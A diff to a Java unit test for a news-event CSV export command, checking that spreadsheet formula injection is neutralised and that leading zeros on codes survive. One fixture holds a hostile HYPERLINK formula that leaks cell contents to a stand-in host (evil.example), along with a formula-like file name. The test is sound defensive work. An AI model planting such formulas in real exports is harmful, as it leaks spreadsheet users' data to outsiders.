@@ -5,6 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.StringWriter;
 import java.util.List;
 import java.util.Map;
+import org.dossier.output.ArticleRecord;
+import org.dossier.output.ArticlesJsonl;
 import org.dossier.stories.build.StoryRecord;
 import org.dossier.stories.build.StoryRecord.MergedEvent;
 import org.dossier.stories.build.StoryRecord.Source;
@@ -26,13 +28,14 @@ class ExportCommandTest {
         ExportCommand command = new ExportCommand();
         StringWriter out = new StringWriter();
 
-        command.write(List.of(story()), Map.of("a1", "https://example.org/a1"), out);
+        command.write(List.of(story()), Map.of("a1", new ExportCommand.Origin("https://example.org/a1",
+                "pages/a1.html")), out);
 
         List<String> lines = out.toString().lines().toList();
         assertThat(lines.getFirst()).as("a byte-order mark, then the header")
                 .startsWith("\uFEFFday,actor1_name,actor1_code,event_code,event_root,quad_class,goldstein");
-        assertThat(lines.get(1)).isEqualTo("2016-10-08,Russia,RUS,129,12,3,-5.0,,,,https://example.org/a1,2,story-1,"
-                + "\"Russia vetoed a \"\"French-drafted\"\" resolution\",0.750,relative");
+        assertThat(lines.get(1)).isEqualTo("2016-10-08,Russia,RUS,\"129\",\"12\",3,-5.0,,,,https://example.org/a1,2,"
+                + "story-1,\"Russia vetoed a \"\"French-drafted\"\" resolution\",0.750,relative,pages/a1.html");
     }
 
     @Test
@@ -44,8 +47,8 @@ class ExportCommandTest {
                 List.of(), List.of(), List.of(), List.of());
         StringWriter out = new StringWriter();
 
-        new ExportCommand().write(List.of(story), Map.of("a1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1)"),
-                out);
+        new ExportCommand().write(List.of(story), Map.of("a1", new ExportCommand.Origin(
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "=cmd.txt")), out);
 
         String row = out.toString().lines().toList().get(1);
         for (String cell : row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
@@ -53,7 +56,44 @@ class ExportCommandTest {
             assertThat(unquoted).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+")
                     .doesNotStartWith("@");
         }
-        assertThat(row).contains("'=cmd", "'@SUM(A1)", "'+Aleppo", "'-1+1 said", "\"'=HYPERLINK(", ",-5.0,");
+        assertThat(row).contains("'=cmd", "'@SUM(A1)", "'+Aleppo", "'-1+1 said", "\"'=HYPERLINK(", ",-5.0,",
+                ",'=cmd.txt");
+    }
+
+    @Test
+    void codesKeepTheirLeadingZeroAsQuotedTextOrForASpreadsheetAsAFormula() throws Exception {
+        MergedEvent statement = new MergedEvent("2016-10-08", "stated", "France", "FRA", "MAKE STATEMENT", "010",
+                "01", 1, 0.0, null, null, null, 0.6, 1, List.of("AFP"), List.of(new Source("a1", "AFP",
+                        "France said", 0, 11)));
+        StoryRecord story = new StoryRecord("story-1", "Aleppo", List.of(), List.of(), List.of(statement),
+                List.of(), List.of(), List.of(), List.of(), List.of());
+        ExportCommand plain = new ExportCommand();
+        StringWriter out = new StringWriter();
+        plain.write(List.of(story), Map.of(), out);
+        assertThat(out.toString().lines().toList().get(1)).startsWith("2016-10-08,France,FRA,\"010\",\"01\",1,");
+
+        ExportCommand forSpreadsheet = new ExportCommand();
+        forSpreadsheet.spreadsheet = true;
+        StringWriter sheet = new StringWriter();
+        forSpreadsheet.write(List.of(story), Map.of(), sheet);
+        assertThat(sheet.toString().lines().toList().get(1))
+                .startsWith("2016-10-08,France,FRA,\"=\"\"010\"\"\",\"=\"\"01\"\"\",1,");
+        assertThat(forSpreadsheet.code("=1+1")).as("only digits become a formula").isEqualTo("'=1+1");
+    }
+
+    @Test
+    void sourceUrlIsAWebAddressOrNothingAndTheFileHasItsOwnColumn() {
+        ArticleRecord fromFile = ArticlesJsonl.fromLine("{\"id\":\"a1\",\"source\":\"examples/aleppo/001.txt\"}");
+        assertThat(ExportCommand.Origin.of(fromFile)).isEqualTo(new ExportCommand.Origin(null,
+                "examples/aleppo/001.txt"));
+        ArticleRecord posted = ArticlesJsonl.fromLine("{\"id\":\"a2\",\"source\":\"api:item-44\"}");
+        assertThat(ExportCommand.Origin.of(posted)).isEqualTo(new ExportCommand.Origin(null, null));
+        ArticleRecord web = ArticlesJsonl.fromLine("{\"id\":\"a3\",\"source\":\"api:https://example.org/a\","
+                + "\"url\":\"https://example.org/a\"}");
+        assertThat(ExportCommand.Origin.of(web)).isEqualTo(new ExportCommand.Origin("https://example.org/a", null));
+        ArticleRecord local = ArticlesJsonl.fromLine("{\"id\":\"a4\",\"source\":\"crawl.warc.gz\","
+                + "\"url\":\"file:///tmp/page.html\"}");
+        assertThat(ExportCommand.Origin.of(local).url()).isNull();
     }
 
     @Test
